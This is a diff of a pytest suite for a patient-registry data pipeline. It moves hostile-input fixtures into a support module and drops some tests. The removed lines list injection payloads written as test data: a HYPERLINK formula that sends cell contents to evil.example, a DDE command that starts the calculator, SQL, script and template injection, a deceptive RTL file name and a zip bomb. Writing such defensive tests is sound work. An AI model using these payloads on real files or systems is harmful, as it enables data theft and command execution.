@@ -9,10 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
-import os
 import subprocess
-import threading
-import time
 import zipfile
 from dataclasses import dataclass
 from pathlib import Path
@@ -23,20 +20,23 @@ import pytest
 from registry_pipeline.home import Home
 from registry_pipeline.steps.refresh import RefreshReport, refresh, take_in
 from registry_pipeline.store.serve import current_release, release_ids
+from tests.support.hostile_inbox import (
+    CALCULATOR,
+    FORMULA,
+    TEXTS,
+    USELESS,
+    hostile_files,
+    litter,
+    refresh_while_a_file_grows,
+)
 from tests.support.registry_home import (
-    CONTACT_HEADER,
     HOSPITAL,
     N_PATIENTS,
-    PATIENT_HEADER,
     ask,
     assert_balanced,
-    assert_one_line,
     assert_same_tables,
     good_files,
-    patient_row,
-    patients_csv,
     registry,
-    send,
     send_all,
     small_home,
     tables,
@@ -44,66 +44,6 @@ from tests.support.registry_home import (
 )
 
 pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("hostile")]
-
-FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
-CALCULATOR = "=cmd|' /C calc'!A0"
-TEXTS = (
-    FORMULA,
-    CALCULATOR,
-    "+1+1",
-    "-2+3",
-    "@SUM(A1:A9)",
-    "<script>alert(1)</script>",
-    "'; DROP TABLE patient; --",
-    "{{ 7*7 }} ${7*7}",
-    "\u202egnp.exe",
-    "long " + "x" * 3000,
-)
-PASSWORD = (
-    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(900)
-)
-# Files that hold nothing usable -> rule, severity, words of the reason; none of them may change a table.
-USELESS: dict[str, tuple[bytes, str, str, str]] = {
-    "patients_empty.csv": (b"", "S01", "error", "no bytes"),
-    "patients_header.csv": (f"{PATIENT_HEADER}\n".encode(), "S01", "warning", "no rows"),
-    "patients_binary.csv": (bytes(range(256)) * 40, "S01", "error", "not text"),
-    "patients_password.xlsx": (PASSWORD, "S01", "error", "password"),
-    "deaths_encoding.csv": ("number,died,note\nK0001,2019-09-09,患者死亡\n".encode("gb18030"), "S01", "error", "decode"),
-    "patients_column.csv": (b"number,sex,diagnosed\nK0001,female,2015-01-01\nK0002,female,2015-02-01\n", "S02", "error", "missing"),
-    "letters.csv": (b"a,b\n1,2\n", "S02", "error", "no source takes this file"),
-}  # fmt: skip
-
-
-def bomb() -> bytes:
-    packed = io.BytesIO()
-    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr("patients.csv", b"number,born\n" + bytes(15 * 2**20))
-    return packed.getvalue()
-
-
-def hostile_files() -> dict[str, str | bytes]:
-    """Files of which some rows can be used and others cannot."""
-    good = [patient_row(number) for number in range(N_PATIENTS)]
-    texts = [patient_row(100 + at, region=text, histology=text) for at, text in enumerate(TEXTS)]
-    wrong = [
-        patient_row(120, sex=FORMULA),
-        patient_row(121, born=CALCULATOR),
-        patient_row(122, stage="<script>alert(2)</script>"),
-    ]
-    ragged = "K0001,V9101,2019-08-01,alive\nK0002,V9102\nK0004,V9103,2019-08-01,alive,too,many\nK0005,V9104,2019-08-01,alive\n"
-    nul = b"\nK0001,V9001,2019-07-01,alive\nK00\x0002,V9002,2019-07-01,alive\nK0002,V9003,2019-07-01,al\x00ive\n"
-    return {
-        "patients_2.csv": patients_csv([*good, *texts, *wrong]),
-        "patients_3.csv": patients_csv(
-            [patient_row(3, region="Elsewhere", born="1931-01-01"), patient_row(40)]
-        ),
-        "patients_cell.csv": patients_csv([patient_row(60, histology="z" * 5_000_000), patient_row(61)]),
-        "contacts_nul.csv": CONTACT_HEADER.encode() + nul,
-        "contacts_ragged.csv": f"{CONTACT_HEADER}\n{ragged}",
-        "contacts_double.csv": "number,visit,seen,state,seen\nK0001,V9201,2019-09-01,alive,2019-09-02\n",
-        "contacts_\x1b[31m\n.csv": f"{CONTACT_HEADER}\nK0001,V9301,2019-10-01,alive\n",
-        "patients_bomb.zip": bomb(),
-    }
 
 
 @dataclass(frozen=True)
@@ -133,47 +73,9 @@ def made(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
         send_all(home, {name: content for name, (content, *_) in USELESS.items()})
         landing = refresh(home)
     send_all(home, hostile_files())
-    _litter(home)
-    done = _refresh_while_a_file_grows(home)
+    litter(home)
+    done = refresh_while_a_file_grows(home)
     return Hostile(home, good, landing.release_id, current_release(home) or "", landing, done)
-
-
-def _litter(home: Home) -> None:
-    """What is no file of a facility."""
-    inbox = home.inbox / HOSPITAL
-    (inbox / "old_exports").mkdir()
-    (inbox / "old_exports" / "patients.csv").write_text("number\n1\n", encoding="utf-8")
-    (inbox / "patients_9.csv.part").write_text("number,bo", encoding="utf-8")
-    (inbox / "~$patients_2.xlsx").write_bytes(b"lock of a spreadsheet")
-    (inbox / "patients_link.csv").symlink_to(home.settings_file)
-    os.mkfifo(inbox / "patients_pipe.csv")
-    (home.inbox / "nroth").mkdir()
-    (home.inbox / "nroth" / "patients.csv").write_text("number\n1\n", encoding="utf-8")
-
-
-def _refresh_while_a_file_grows(home: Home) -> subprocess.CompletedProcess[str]:
-    home.settings_file.write_text(
-        home.settings_file.read_text(encoding="utf-8").replace("settle_seconds = 0", "settle_seconds = 1"),
-        encoding="utf-8",
-    )
-    growing = send(home, "contacts_growing.csv", f"{CONTACT_HEADER}\n")
-    is_over = threading.Event()
-
-    def grow() -> None:
-        number = 0
-        while not is_over.is_set():
-            with growing.open("a", encoding="utf-8") as out:
-                out.write(f"K0001,V8{number:04d},2019-11-01,alive\n")
-            number += 1
-            time.sleep(0.05)
-
-    writer = threading.Thread(target=grow)
-    writer.start()
-    try:
-        return registry(home, "refresh", "--plain")
-    finally:
-        is_over.set()
-        writer.join()
 
 
 def findings(made: Hostile, release_id: str) -> pl.DataFrame:
@@ -342,71 +244,10 @@ def test_the_reports_of_the_release_quote_no_script(made: Hostile) -> None:
     for page in pages:
         text = page.read_text(encoding="utf-8")
         assert "<script>alert" not in text
-        assert "{{ 7*7 }}" not in text or "49 $" not in text
+        assert "49 ${7*7}" not in text, "a template ran what a record said"
 
 
 def test_releases_before_are_as_they_were(made: Hostile) -> None:
     assert release_ids(made.home) == [made.good, made.useless, made.hostile]
     assert ask(made.home, "SELECT count(*) FROM curated.patient", made.good).item() == N_PATIENTS
     assert ask(made.home, "SELECT previous_release_id FROM meta.release", made.hostile).item() == made.useless
-
-
-# ------------------------------------------------------------------------------- without any release
-
-
-def test_a_file_that_may_not_be_read_is_one_line(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """The system's refusal is simulated: the superuser may read everything."""
-    home = small_home(tmp_path / "home")
-    locked = send(home, "patients_1.csv", patients_csv([patient_row(1)]))
-    may = os.access
-    monkeypatch.setattr(os, "access", lambda path, *more: Path(path) != locked and may(path, *more))
-    report = take_in(home)
-    assert report.landed == []
-    assert [str(one) for one in report.problems] == [
-        "inbox/north/patients_1.csv: may not be read; check its owner and mode"
-    ]
-    monkeypatch.undo()
-    assert [one.source_file for one in take_in(home).landed] == ["patients_1.csv"]
-
-
-def test_nothing_received_is_one_line(tmp_path: Path) -> None:
-    home = small_home(tmp_path / "home")
-    done = registry(home, "refresh", "--plain")
-    assert done.returncode == 1
-    assert_one_line(done.stderr)
-    assert "no file has been received yet" in done.stderr
-    assert current_release(home) is None
-
-
-def test_a_registry_without_records_is_an_empty_release_with_its_finding(tmp_path: Path) -> None:
-    home = small_home(tmp_path / "home")
-    send(home, "patients_1.csv", b"")
-    with without_reports():
-        assert refresh(home).is_new
-    assert ask(home, "SELECT count(*) FROM curated.patient").item() == 0
-    assert ask(home, "SELECT rule_id FROM quality.finding")["rule_id"].to_list() == ["S01"]
-    assert_balanced(home)
-
-
-def test_a_mapping_with_a_mistake_names_its_line(tmp_path: Path) -> None:
-    home = small_home(tmp_path / "home")
-    mapping = home.facilities / f"{HOSPITAL}.toml"
-    mapping.write_text(
-        mapping.read_text(encoding="utf-8").replace('birth_date = "born"', 'birth_dat = "born"'),
-        encoding="utf-8",
-    )
-    send_all(home, good_files())
-    done = registry(home, "refresh", "--plain")
-    assert done.returncode == 2
-    assert_one_line(done.stderr)
-    assert "north.toml" in done.stderr and "birth_date" in done.stderr
-
-
-def test_a_blocking_rule_that_does_not_exist_is_told(tmp_path: Path) -> None:
-    """A slip here would let through what was to be held back."""
-    home = small_home(tmp_path / "home", blocking_rules='["V2"]')
-    send_all(home, good_files())
-    done = registry(home, "refresh", "--plain")
-    assert done.returncode == 2
-    assert_one_line(done.stderr)
-    assert "registry.toml" in done.stderr and "V2" in done.stderr
